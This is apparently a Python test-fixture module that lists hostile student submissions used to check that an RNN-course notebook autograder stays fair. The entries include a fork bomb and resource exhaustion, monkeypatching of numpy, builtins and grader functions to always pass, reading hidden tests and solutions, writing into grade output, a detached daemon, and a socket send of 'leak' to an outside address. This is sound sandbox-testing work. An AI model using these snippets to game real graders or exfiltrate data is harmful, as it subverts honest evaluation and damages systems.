"""Hostile submissions, each with the tests a fair grader fails it on.

Every student submits the instructor's notebooks, with one attack added to hidden_state.ipynb (a
cell inserted after the set-up cell, or a function replaced). A fair grader skips what
misbehaves, keeps every point earned by honest work, and gives no point for a wrong answer
however the comparison was attacked. ``loses`` names the hidden_state tests the attack fairly
costs (``"task"``: its public checks and hidden cases, ``"task/hidden"``: the hidden cases only,
``"*"``: every test of the notebook); every other test scores what a perfect student scores.

``context`` gives the paths and port an attack aims at: the real solutions folder, the grader's
OUT folder, a port the test listens on, and a marker that a detached process carries.
"""

from dataclasses import dataclass

WRONG_STEP = "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n    return 0 * h_prev\n"
WRONG_AFFINE = (
    "def temporal_affine_forward(h, W_hy, b_y):\n"
    "    return np.zeros((*h.shape[:2], W_hy.shape[0]))\n"
)
STEP_AND_SEQUENCE = ("rnn_step_forward", "rnn_forward")  # rnn_forward calls rnn_step_forward


@dataclass(frozen=True)
class Hostile:
    name: str
    loses: tuple[str, ...] = ()  # the hidden_state tests it fairly fails (see above)
    insert: tuple[str, ...] = ()  # cells put after the set-up cell of hidden_state.ipynb
    replace: tuple[tuple[str, str], ...] = ()  # (function, new source) in hidden_state.ipynb
    raw: str = ""  # the whole hidden_state.ipynb file, instead of a notebook
    says: str = ""  # a fragment the student's feedback must contain
    needs_isolation: bool = False  # the fair score holds only with bubblewrap's isolation


def corpus(context: dict) -> tuple[Hostile, ...]:
    """The hostile submissions, aimed at ``context``'s paths (solutions, out, port, marker)."""
    c = context
    return (
        Hostile("infinite_loop_cell", insert=("while True:\n    pass",), says="longer than"),
        Hostile(
            "infinite_loop_in_function",
            ("rnn_forward/hidden",),  # the public cases (T <= 4) pass; the hidden T = 7 hangs
            replace=(
                (
                    "rnn_forward",
                    "def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):\n"
                    "    while x.shape[0] > 4:\n        pass\n"
                    "    h, h_t = [], h0\n    for x_t in x:\n"
                    "        h_t = rnn_step_forward(x_t, h_t, W_ih, W_hh, b_ih, b_hh)\n"
                    "        h.append(h_t)\n    return np.stack(h), h_t\n",
                ),
            ),
        ),
        Hostile("os_exit_cell", insert=("import os\nos._exit(3)",)),
        Hostile(
            "os_exit_in_function",
            ("temporal_affine_forward",),
            replace=(
                (
                    "temporal_affine_forward",
                    "def temporal_affine_forward(h, W_hy, b_y):\n    import os\n    os._exit(0)\n",
                ),
            ),
            says="temporal_affine_forward",
        ),
        Hostile("sys_exit_cell", insert=("import sys\nsys.exit('bye')",), says="SystemExit"),
        Hostile(
            "exception_at_import",
            insert=("import a_module_that_does_not_exist",),
            says="ModuleNotFoundError",
        ),
        Hostile("allocate_3_gib", insert=("block = np.ones(3 * 1024**3 // 8)\nblock[::4096] = 2",)),
        Hostile("print_20_mb", insert=("print('x' * 20_000_000)",)),
        Hostile("fork_bomb", insert=("import os\nwhile True:\n    os.fork()",)),
        Hostile(
            "patch_numpy",
            STEP_AND_SEQUENCE,  # rnn_step_forward is wrong, and rnn_forward calls it
            insert=(
                "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
                "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                "numpy.array_equal = lambda *a, **k: True\nnumpy.isfinite = lambda *a: True",
            ),
            replace=(("rnn_step_forward", WRONG_STEP),),
        ),
        Hostile(
            "patch_builtins",
            ("temporal_affine_forward",),
            insert=(
                "import builtins\nbuiltins.abs = lambda *a: 0\nbuiltins.all = lambda *a: True\n"
                "builtins.any = lambda *a: False\nbuiltins.round = lambda *a, **k: 0",
            ),
            replace=(("temporal_affine_forward", WRONG_AFFINE),),
        ),
        Hostile(
            "patch_grader",
            STEP_AND_SEQUENCE,
            insert=(
                "import sys\nimport course_rnn.grading\n"
                "course_rnn.grading.check = lambda *a, **k: True\n"
                "for name in list(sys.modules):\n"
                "    if name.startswith('course_rnn'):\n"
                "        for attr in ('check', 'evaluate_public', 'passes_hidden'):\n"
                "            setattr(sys.modules[name], attr, lambda *a, **k: True)",
                "def course_rnn_grader_batch(tasks):\n"
                "    return tuple(('{\"params\": null}', tuple(('ok', None) for _ in probes))\n"
                "                 for _, _, _, probes in tasks)",
            ),
            replace=(("rnn_step_forward", WRONG_STEP),),
        ),
        Hostile(
            "read_hidden_tests",
            STEP_AND_SEQUENCE,  # only a copy of the hidden tests would make them right
            insert=(
                "import pathlib\nleak = ''\n"
                f"for p in ({str(c['solutions'] / 'tests' / 'hidden_state.py')!r},"
                f" {str(c['solutions'] / 'tests' / 'secret_seed.txt')!r},"
                f" {str(c['solutions'] / 'hidden_state.ipynb')!r}):\n"
                "    try:\n        leak += pathlib.Path(p).read_text()\n"
                "    except OSError:\n        pass",
            ),
            replace=(
                (
                    "rnn_step_forward",
                    "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n"
                    "    if 'GRADED' in leak:\n"
                    "        return np.tanh(x_t @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh)\n"
                    "    return 0 * h_prev\n",
                ),
            ),
            needs_isolation=True,
        ),
        Hostile(
            "write_into_out",
            insert=(
                "import os\n"
                f"for path in ({str(c['out'] / 'grades.csv')!r}, "
                f"{str(c['out'] / 'results' / 'intruder' / 'record.json')!r}):\n"
                "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
                "        open(path, 'w').write('pwned')\n"
                "    except OSError:\n        pass",
            ),
            needs_isolation=True,
        ),
        Hostile(
            "detached_daemon",
            insert=(
                "import subprocess, sys\n"
                "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', "
                f"{c['marker']!r}], start_new_session=True,\n"
                "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
                # A shell whose $0 is the marker, kept alive by the ":" after sleep (a lone
                # command would be exec'd, dropping the marker; `sleep 300 MARKER` exits at once).
                "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                f"        os.execv('/bin/sh', ['sh', '-c', 'sleep 300; :', {c['marker']!r}])\n"
                "    os._exit(0)",
            ),
        ),
        Hostile(
            "network",
            insert=(
                "import socket\n"
                f"for address in (('127.0.0.1', {c['port']}), ('1.1.1.1', 53)):\n"
                "    try:\n"
                "        socket.create_connection(address, timeout=1).sendall(b'leak')\n"
                "    except OSError:\n        pass",
            ),
            needs_isolation=True,
        ),
        Hostile(
            "corrupt_notebook",
            ("*",),
            raw='{"cells": [{"cell_type": "code", "sour',
            says="is not valid JSON",
        ),
        Hostile(
            "wrong_shapes",
            STEP_AND_SEQUENCE,
            replace=(
                (
                    "rnn_step_forward",
                    "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n"
                    "    return np.tanh(x_t @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh).T\n",
                ),
            ),
            says="h_t has shape",
        ),
        Hostile(
            "nan_results",
            ("rnn_forward",),
            replace=(
                (
                    "rnn_forward",
                    "def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):\n"
                    "    h = np.full((x.shape[0], *h0.shape), np.nan)\n    return h, h[-1]\n",
                ),
            ),
            says="NaN or infinite entries",
        ),
        Hostile(
            "calls_reference_in_function",
            STEP_AND_SEQUENCE,
            replace=(
                (
                    "rnn_step_forward",
                    "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n"
                    "    from course_rnn.numpy_nn.rnn import rnn_step_forward as reference\n"
                    "    return reference(x_t, h_prev, W_ih, W_hh, b_ih, b_hh)[0]\n",
                ),
            ),
            says="rnn_step_forward uses course_rnn's reference implementation",
        ),
        Hostile(
            "imports_reference_in_cell",
            ("rnn_forward",),
            insert=("from course_rnn.numpy_nn.rnn import rnn_forward as reference_forward",),
            replace=(
                (
                    "rnn_forward",
                    "def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):\n"
                    "    params = dict(zip(['weight_ih_l0', 'weight_hh_l0', 'bias_ih_l0', "
                    "'bias_hh_l0'], [W_ih, W_hh, b_ih, b_hh]))\n"
                    "    h, h_n, _ = reference_forward(x, params, h0[None])\n"
                    "    return h, h_n[0]\n",
                ),
            ),
            says="imports course_rnn's reference implementation, which is blocked",
        ),
    )
